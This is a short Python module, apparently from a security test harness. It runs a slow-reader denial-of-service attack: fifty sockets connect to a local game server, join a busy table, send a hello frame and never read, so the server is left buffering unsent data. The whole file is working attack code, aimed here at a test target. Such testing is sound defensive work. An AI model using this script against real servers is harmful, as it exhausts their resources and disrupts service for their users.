"""Fifty sockets watch a table where something happens all the time, and read nothing of it."""

import asyncio
import socket
from contextlib import suppress

from storms.stranger import Stranger, opened
from storms.wire import CONNECT, Wire

from .takebacks import WANTED, go_back_and_forth
from .target import Target

READERS = 50
BUFFER = 4096
"""Bytes that a reader's system takes in, so that the server has to keep the rest."""
PATIENCE = 10.0
"""Seconds until a reader, who does not notice that it was cut off, comes again."""
HELLO = b'{"t":"hello","v":1}'


async def attack(target: Target) -> None:
    async with target.http(target.attacker) as http, asyncio.TaskGroup() as attacking:
        table, cookie = await opened(http, WANTED)
        attacking.create_task(go_back_and_forth(Stranger(target.port, target.attacker, table, cookie)))
        for _ in range(READERS):
            attacking.create_task(watch_without_reading(target, table))


async def watch_without_reading(target: Target, table: str) -> None:
    while True:
        with suppress(OSError), socket.socket() as deaf:
            deaf.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, BUFFER)
            deaf.setblocking(False)
            deaf.bind((target.attacker, 0))
            loop = asyncio.get_running_loop()
            await loop.sock_connect(deaf, ("127.0.0.1", target.port))
            await loop.sock_sendall(deaf, CONNECT.format(table=table, port=target.port, cookie="").encode())
            await loop.sock_recv(deaf, 1)  # the handshake is being answered
            await loop.sock_sendall(deaf, Wire.frame(HELLO))
            await asyncio.sleep(PATIENCE)
